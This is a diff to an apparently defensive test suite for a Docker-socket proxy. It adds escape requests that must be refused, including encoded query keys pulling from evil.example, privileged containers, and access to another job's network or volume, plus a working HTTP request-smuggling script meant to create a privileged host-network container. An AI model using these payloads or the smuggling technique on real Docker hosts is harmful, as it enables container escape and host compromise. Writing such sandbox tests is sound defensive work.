@@ -127,7 +127,7 @@ print(json.dumps(out), flush=True)
 IMG = DK.IMAGE
 
 
-def escapes(outsider):
+def escapes(outsider, outnet="outnet", outvol="outvol"):
     """(request, what the refusal must say)."""
     def create(hc=None, name=None, **top):
         b = {"Image": IMG, "Cmd": ["true"]}
@@ -208,6 +208,30 @@ def escapes(outsider):
         (("POST", "/v1.41/plugins/pull?remote=evil.example/p", None), "plugins"),
         (("POST", "/v1.41/swarm/init", {}), "swarm"),
         (("GET", "/v1.41/containers/..%2F..%2Fx/json", None), "segment"),
+        # found by review: Go decodes query keys; a form body is read as the query
+        (("POST", "/v1.41/images/create?from%49mage=evil.example%2Fleak&tag=x", None),
+         "evil.example:443"),
+        (("POST", "/v1.41/commit?contain%65r=" + outsider + "&container=x", None),
+         "given twice"),
+        (("POST", "/v1.41/images/create?fromSrc=-", None), "docker import"),
+        # image names are every job's: no tag, load, rmi, commit to a name
+        (("POST", "/v1.41/images/%s/tag?repo=busybox&tag=latest" % IMG, None), "docker tag"),
+        (("POST", "/v1.41/images/load", ""), "docker load"),
+        (("DELETE", "/v1.41/images/%s" % IMG, None), "docker rmi"),
+        # another's network or volume; a subnet of the job's choosing
+        (create({"NetworkMode": outnet}), "not this job's"),
+        (create({"Binds": [outvol + ":/v"]}), "not this job's"),
+        (create({"Mounts": [{"Type": "volume", "Source": outvol, "Target": "/v"}]}),
+         "not this job's"),
+        (("POST", "/v1.41/networks/%s/connect" % outnet, {"Container": "x"}), "not this job's"),
+        (("POST", "/v1.41/networks/create", {"Name": "hj", "IPAM": {"Config": [
+            {"Subnet": "198.18.0.48/29"}]}}), "IPAM"),
+        (create(NetworkingConfig={"EndpointsConfig": {"bridge": {"NetworkID": "host"}}}),
+         "NetworkID"),
+        # HostConfig's settings at the top level (the old form), a host-wide OOM shield
+        (create(VolumeDriver="evilplug"), "outside HostConfig"),
+        (create(Privileged=True), "outside HostConfig"),
+        (create({"OomScoreAdj": -1000}), "OomScoreAdj"),
     ]
 
 
@@ -218,13 +242,18 @@ def test_docker_escape_requests_refused_and_recorded(ctx):
     egress.tamper span (tamper_docker) naming the request; dockerd holds no
     container made by them, and a container outside the job is untouched."""
     d, dk = docker_daemon(ctx)
-    st, doc = dk.api("POST", "/containers/create?name=outsider-" + ctx.job_id()[-6:],
+    tag = ctx.job_id()[-6:]
+    st, doc = dk.api("POST", "/containers/create?name=outsider-" + tag,
                      {"Image": IMG, "Cmd": ["sleep", "300"]})
     check(st == 201, "the outsider container was not made: %r" % doc)
     outsider = doc["Id"]
+    st, doc = dk.api("POST", "/networks/create", {"Name": "outnet-" + tag})
+    check(st == 201, "the outsider network was not made: %r" % doc)
+    st, doc = dk.api("POST", "/volumes/create", {"Name": "outvol-" + tag})
+    check(st == 201, "the outsider volume was not made: %r" % doc)
     before = {c["Id"] for c in dk.containers()}
     try:
-        cases = escapes(outsider[:12])
+        cases = escapes(outsider[:12], "outnet-" + tag, "outvol-" + tag)
         p, job = job_run(ctx, d, [PY, "-c", ASK, json.dumps([c[0] for c in cases])])
         check(p.returncode == 0, "the job failed: %s" % p.stderr[-800:])
         got = json.loads(p.stdout.strip().splitlines()[-1])
@@ -244,8 +273,63 @@ def test_docker_escape_requests_refused_and_recorded(ctx):
             "POST /v1.41/containers/create") and r0[0].get("egress.tamper.via") ==
             "docker_endpoint", "the tamper span does not name the request: %r" % (
                 [s.describe() for s in recs][:2],))
+        st, _ = dk.api("GET", "/networks/outnet-" + tag)
+        check(st == 200, "the outsider network is gone")
     finally:
         dk.api("DELETE", "/containers/%s?force=1" % outsider)
+        dk.api("DELETE", "/networks/outnet-" + tag)
+        dk.api("DELETE", "/volumes/outvol-" + tag)
+
+
+SMUGGLE = r'''
+import json, socket, sys
+def req(method, path, body=None, extra=b"", keep=False):
+    s = socket.socket(socket.AF_UNIX)
+    s.settimeout(20)
+    s.connect("/run/docker.sock")
+    data = json.dumps(body).encode() if body is not None else b""
+    s.sendall(("%s %s HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\n"
+               "Content-Length: %d\r\n" % (method, path, len(data))).encode() +
+              (b"Upgrade: tcp\r\nConnection: Upgrade\r\n" if keep else b"") + b"\r\n" +
+              data + extra)
+    got = b""
+    while True:
+        b = s.recv(65536)
+        if not b:
+            break
+        got += b
+    s.close()
+    return got.decode(errors="replace")
+def body(t):
+    return json.loads(t.split("\r\n\r\n", 1)[1])
+name = sys.argv[1]
+cid = body(req("POST", "/v1.41/containers/create", {"Image": sys.argv[2], "Cmd": ["sleep", "60"]}))["Id"]
+req("POST", "/v1.41/containers/%s/start" % cid)
+eid = body(req("POST", "/v1.41/containers/%s/exec" % cid, {"Cmd": ["true"]}))["Id"]
+inner = json.dumps({"Image": sys.argv[2], "HostConfig": {"Privileged": True, "NetworkMode": "host"}})
+smuggled = ("POST /v1.41/containers/create?name=%s HTTP/1.1\r\nHost: d\r\n"
+            "Content-Type: application/json\r\nContent-Length: %d\r\n\r\n%s" % (
+                name, len(inner), inner)).encode()
+out = req("POST", "/v1.41/exec/%s/start" % eid, {"Detach": True, "Tty": False},
+          extra=smuggled, keep=True)
+print(json.dumps(out[:300]))
+req("DELETE", "/v1.41/containers/%s?force=1" % cid)
+'''
+
+
+@test(timeout=300)
+def test_docker_no_request_behind_a_hijack(ctx):
+    """An exec started detached, on a connection asking for an upgrade,
+    with a second request behind it: dockerd answers 200 and would read on,
+    but the endpoint passes the job's further bytes only after a 101; the
+    privileged host-network container of the second request is never made."""
+    d, dk = docker_daemon(ctx)
+    name = "smuggled-" + ctx.job_id()[-6:]
+    p, job = job_run(ctx, d, [PY, "-c", SMUGGLE, name, IMG])
+    check(p.returncode == 0, "the job failed: %s" % p.stderr[-800:])
+    time.sleep(1)
+    names = [n for c in dk.containers() for n in c.get("Names", [])]
+    check("/" + name not in names, "dockerd made the smuggled container: ESCAPE (%r)" % names)
 
 
 @test(timeout=300)
